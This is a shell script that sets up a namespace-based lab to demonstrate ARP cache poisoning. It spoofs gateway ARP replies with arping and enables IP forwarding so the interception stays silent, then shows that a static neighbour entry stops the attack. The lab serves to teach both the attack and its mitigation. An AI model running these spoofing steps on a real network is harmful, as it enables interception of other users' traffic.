# ARP believes everybody: the attacker's answer in the victim's table.
ip link add sw type bridge; ip link set sw up
for n in victim gateway attacker; do
  ip netns add $n; ip link add p-$n type veth peer name eth0 netns $n
  ip link set p-$n master sw up; ip -n $n link set eth0 up
done
ip -n victim addr add 192.168.50.10/24 dev eth0
ip -n gateway addr add 192.168.50.1/24 dev eth0
ip -n attacker addr add 192.168.50.66/24 dev eth0
ip -n attacker link set eth0 address 02:66:66:66:66:66
sleep 2
ip netns exec victim ping -c 1 192.168.50.1 | grep -o '[01] received'
echo "before:"; ip -n victim neigh show 192.168.50.1
# The attacker asks in the gateway's name: who is asked learns the asker.
ip -n attacker addr add 192.168.50.1/32 dev eth0
ip netns exec attacker arping -q -c 1 -I eth0 -s 192.168.50.1 192.168.50.10
ip -n attacker addr del 192.168.50.1/32 dev eth0
echo "after:"; ip -n victim neigh show 192.168.50.1
ip netns exec victim ping -c 1 -W 0.4 192.168.50.1 | grep -o '[01] received'
echo "with forwarding nobody would notice:"
ip netns exec attacker sysctl -w net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
ip netns exec victim ping -c 1 -W 0.4 192.168.50.1 | grep ttl | cut -d' ' -f4,6
echo "a static entry ends it:"
ip -n victim neigh replace 192.168.50.1 lladdr "$(ip netns exec gateway cat /sys/class/net/eth0/address)" dev eth0 nud permanent
ip netns exec attacker arping -q -c 1 -U -I eth0 -S 192.168.50.1 192.168.50.1 2>/dev/null
ip netns exec victim ping -c 1 -W 0.4 192.168.50.1 | grep ttl | cut -d' ' -f4,6
ip -n victim neigh show 192.168.50.1
